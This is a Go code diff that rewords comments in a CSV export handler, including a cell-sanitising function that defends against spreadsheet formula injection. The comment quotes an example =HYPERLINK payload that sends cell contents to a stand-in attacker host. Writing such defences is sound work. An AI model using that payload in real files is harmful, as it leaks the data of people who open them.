@@ -22,8 +22,9 @@ func (s agentHandlers) saveSandboxDay(w http.ResponseWriter, r *http.Request, wh
 	return s.saveDay(w, r, who, false)
 }
 
-// saveDay answers with what the filter selects of a timeline, the oldest first, as
-// comma-separated values (RFC 4180). It has all pages, and nothing that they do not show.
+// saveDay answers with the events of a timeline that the filter selects, the oldest first, as
+// comma-separated values (RFC 4180). The file covers all pages, and has nothing that they do
+// not show.
 func (s agentHandlers) saveDay(w http.ResponseWriter, r *http.Request, who auth.Principal, inbox bool) error {
 	v, events, err := s.timeline(r, who, inbox)
 	if err != nil {
@@ -58,7 +59,7 @@ func (s agentHandlers) saveDay(w http.ResponseWriter, r *http.Request, who auth.
 		for i := range row {
 			row[i] = cell(row[i])
 		}
-		_ = out.Write(row) // to memory, with a comma
+		_ = out.Write(row) // cannot fail: it writes to memory, with a comma
 	}
 	out.Flush()
 	return download(w, known.of(v.Subject.Principal()).Text+" "+v.Filter.Day.Format(time.DateOnly)+".csv", b.Bytes())
@@ -87,17 +88,18 @@ func (e *dayEvent) row(known names) []string {
 	return []string{e.At.UTC().Format("2006-01-02T15:04:05.000Z"), e.Topic, said.String(), e.Tag, e.Took, e.Box, entry, strings.Join(details, "; ")}
 }
 
-// maxCell bounds a cell, in bytes. Spreadsheets cut what is longer, each in its own way.
+// maxCell bounds a cell, in bytes. Spreadsheets cut longer ones, each in its own way.
 const maxCell = 32_000
 
-// cell returns hostile text as a spreadsheet may have it. The attack: a program is called
-// =HYPERLINK("https://evil.example/?"&A1), and whoever opens the file sends it the rest; some
-// spreadsheets start programs so. Text that a spreadsheet takes for a formula gets an
-// apostrophe before it. What a spreadsheet leaves out before it looks counts too: spaces,
-// and the wide forms of the signs. Where a comma is the decimal sign, spreadsheets divide at
-// semicolons, even within quotation marks, so what follows one counts as a beginning.
-// Lines and unseen characters are made visible, so that no cell makes a row of its own;
-// a tab, at which files are divided too, becomes a space.
+// cell returns hostile text in a form that is safe in a spreadsheet. The attack: a program is
+// called =HYPERLINK("https://attacker.example/?"&A1), so that the spreadsheet of a person who
+// opens the file sends the rest of it there; some spreadsheets start programs in this way.
+// Text that a spreadsheet takes for a formula gets an apostrophe before it. Spreadsheets skip
+// spaces before they look, and accept the wide forms of the signs, so these count too. Where a
+// comma is the decimal sign, spreadsheets divide at semicolons, even within quotation marks,
+// so the text after a semicolon counts as a beginning. Line breaks and invisible characters
+// are made visible, so that no cell makes a row of its own. Files are also divided at tabs, so
+// a tab becomes a space.
 func cell(s string) string {
 	return formula().ReplaceAllString(strings.ReplaceAll(mail.Printable(s, maxCell), "\t", " "), "$1'$2")
 }
